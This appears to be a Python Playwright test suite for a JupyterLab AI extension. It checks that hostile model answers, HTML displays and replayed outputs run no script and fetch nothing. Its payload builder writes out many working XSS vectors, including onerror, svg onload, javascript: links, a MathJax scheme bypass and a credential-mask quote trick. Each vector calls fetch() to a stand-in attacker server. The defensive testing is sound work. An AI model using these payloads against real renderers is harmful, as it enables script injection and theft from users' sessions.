"""Hostile output in JupyterLab itself (headless Chromium): a model's answer, HTML a
sandboxed run displays, and the same answers replayed from the record after a restart
carry every usual way to run script or fetch from the page. JupyterLab renders the
outputs of this session's cells without its sanitizer, so what Lily sends is all that
stands between them and the person's Jupyter server (their files, a kernel outside
the sandbox). Nothing may run and nothing may be fetched: each payload would set
`window.__lily_pwned` and call the attacker's server (here on 127.0.0.1), which must
see no request, live, after Run All from the record, or from a 1 MB answer.
"""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import KERNEL_START_MS, GuardedPage, lab_with_model, write_notebook
from tests.browser.notebook_page import NotebookPage
from tests.browser.test_restart import confirm, menu, run_every_cell, saved
from tests.support.jupyter_server import JupyterProcess
from tests.support.openai_server import OpenAIServer, Reply

SHOWN = "Here is the summary you asked for."
BIG_SHOWN = "A long report follows."
PRINTED = re.compile(r"^displayed\s*$")  # the run's own output (its code says it too)


class Attacker:
    """The attacker's web server, on loopback: it records every request it is sent."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def payload(evil: str, tag: str) -> str:
    """Every usual way for Markdown or HTML to run script or fetch: each one, if it
    worked, marks the page and calls `evil` naming itself."""
    pwn = "window.__lily_pwned=(window.__lily_pwned||[]).concat(['{0}']);fetch('" + evil + "/{0}')"
    return "\n".join([
        f'<img src=x onerror="{pwn.format(tag + "-img-onerror")}">',
        f"<script>{pwn.format(tag + '-script')}</script>",
        f'<svg onload="{pwn.format(tag + "-svg-onload")}"><circle r="4"/></svg>',
        f'<a href="javascript:{pwn.format(tag + "-a-href")}">a link</a>',
        f'<img src="{evil}/{tag}-remote-img.png">',
        f"![a chart]({evil}/{tag}-markdown-img.png)",
        f"[another link](javascript:{pwn.format(tag + '-md-link')})",
        f'<details open ontoggle="{pwn.format(tag + "-ontoggle")}">more</details>',
        f"<style>@import url({evil}/{tag}-style.css)</style>",
        f'<iframe src="{evil}/{tag}-iframe"></iframe>',
        # MathJax makes a link of \\href (a browser drops the tab inside the scheme).
        f"$\\href{{java\tscript:{pwn.format(tag + '-mathjax-href')}}}{{a formula}}$",
        # The kernel masks a credential in what it sends; the mask swallows a quote.
        f'![x password=](data:image/png;base64,AAAA)" onerror="{pwn.format(tag + "-mask")}" x',
    ])


def answers(evil: str) -> dict[str, Reply]:
    small = f"{SHOWN}\n\n{payload(evil, 'answer')}\n"
    # About 1 MB: the payload again and again.
    big = BIG_SHOWN + "\n\n" + "\n\n".join(payload(evil, f"big{n}") for n in range(1_600))
    assert len(big) > 1_000_000
    return {"hostile": Reply(text=small, pieces=6, chunk_delay=0.1),
            "big": Reply(text=big, pieces=40)}


CELLS = (
    ("hostile", "Summarise the notes, please."),
    ("python", "/python from IPython.display import HTML, display\n"
               "display(HTML(open('payload.html').read())); print('displayed')"),
    ("big", "Write the long report."),
)


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    evil = Attacker()
    try:
        yield evil
    finally:
        evil.close()


@pytest.fixture(scope="module")
def model(attacker: Attacker) -> Iterator[OpenAIServer]:
    replies = answers(attacker.url)

    def reply(body: dict[str, Any]) -> Reply:
        asked = [m["content"] for m in body["messages"] if m["role"] == "user"][-1]
        return replies["big" if "long report" in str(asked) else "hostile"]

    with OpenAIServer(default=reply) as server:
        yield server


@pytest.fixture(scope="module")
def lab(chromium_ready: None, tmp_path_factory: pytest.TempPathFactory, model: OpenAIServer,
        attacker: Attacker) -> Iterator[tuple[JupyterProcess, Path]]:
    base = tmp_path_factory.mktemp("hostile")
    with lab_with_model(base, model.base_url, "model: openai/loop\nstream: true\nretries: 0\n",
                        "sk-hostile-not-a-real-key-0") as (server, root):
        (root / "payload.html").write_text(payload(attacker.url, "python"))
        write_notebook(root / "hostile.ipynb", CELLS)
        yield server, root


@pytest.fixture(scope="module")
def page(browser: Browser, lab: tuple[JupyterProcess, Path],
         attacker: Attacker) -> Iterator[tuple[Page, list[str]]]:
    server, _ = lab
    guarded = GuardedPage(browser, f"{server.url}/lab/tree/hostile.ipynb?token={server.token}")
    seen: list[str] = []  # every request the page made to the attacker's server
    guarded.page.on("request", lambda r: seen.append(r.url) if r.url.startswith(
        attacker.url) else None)
    try:
        yield guarded.page, seen
    finally:
        guarded.close("hostile-output")


def assert_inert(page: Page, attacker: Attacker, seen: list[str]) -> None:
    assert page.evaluate("() => window.__lily_pwned") is None
    assert seen == [] and attacker.hits == []
    dom = page.evaluate("""() => {
      const out = [...document.querySelectorAll('.jp-OutputArea-output')];
      const all = out.flatMap(o => [...o.querySelectorAll('*')]);
      return {
        handlers: all.filter(e => [...e.attributes].some(a => a.name.startsWith('on')))
                     .map(e => e.outerHTML.slice(0, 80)),
        scripts: all.filter(e => ['SCRIPT', 'IFRAME', 'STYLE', 'svg'].includes(e.tagName))
                    .map(e => e.tagName),
        js_links: all.filter(e => e.tagName.toLowerCase() === 'a' && e.href &&
                                  !['http:', 'https:', 'mailto:'].includes(
                                    new URL(e.href, location.href).protocol)).length,
        server_links: all.filter(e => e.tagName.toLowerCase() === 'a' && e.href &&
                                      new URL(e.href, location.href).host === location.host)
                         .map(e => e.getAttribute('href')),
        remote_images: all.filter(e => e.tagName === 'IMG' &&
                                  !(e.getAttribute('src') || '').startsWith('data:')
                                  && e.getAttribute('src')).map(e => e.getAttribute('src')),
      };
    }""")
    assert dom == {"handlers": [], "scripts": [], "js_links": 0, "server_links": [],
                   "remote_images": []}


def test_hostile_answers_and_displays_run_nothing_and_fetch_nothing(
        page: tuple[Page, list[str]], lab: tuple[JupyterProcess, Path],
        model: OpenAIServer, attacker: Attacker) -> None:
    tab, seen = page
    _, root = lab
    notebook = NotebookPage(tab)
    run_every_cell(tab, notebook, len(CELLS))
    first, python, big = (notebook.outputs(notebook.cells.nth(n)) for n in range(3))
    expect(first.last).to_contain_text(SHOWN)
    expect(first.last).to_contain_text("<img src=x onerror=")  # shown as the text it is
    expect(first.last.locator("a", has_text="[image: a chart]")).to_have_count(1)
    expect(python.filter(has_text=PRINTED)).to_have_count(1)  # the run did display
    expect(big.last).to_contain_text(BIG_SHOWN)
    assert len(model.requests) == 2
    assert_inert(tab, attacker, seen)

    tab.keyboard.press("ControlOrMeta+s")
    saved(root / "hostile.ipynb", SHOWN)
    menu(tab, "Kernel", "Restart Kernel and Run All Cells…")
    confirm(tab)
    for n in (0, 2):
        expect(notebook.outputs(notebook.cells.nth(n)).first).to_contain_text(
            "Replayed from the record", timeout=KERNEL_START_MS)
    notebook.wait_idle(KERNEL_START_MS)
    expect(first.last).to_contain_text(SHOWN)
    expect(python.filter(has_text=PRINTED)).to_have_count(1)
    expect(big.last).to_contain_text(BIG_SHOWN)
    assert len(model.requests) == 2  # the answers came from the record
    assert_inert(tab, attacker, seen)
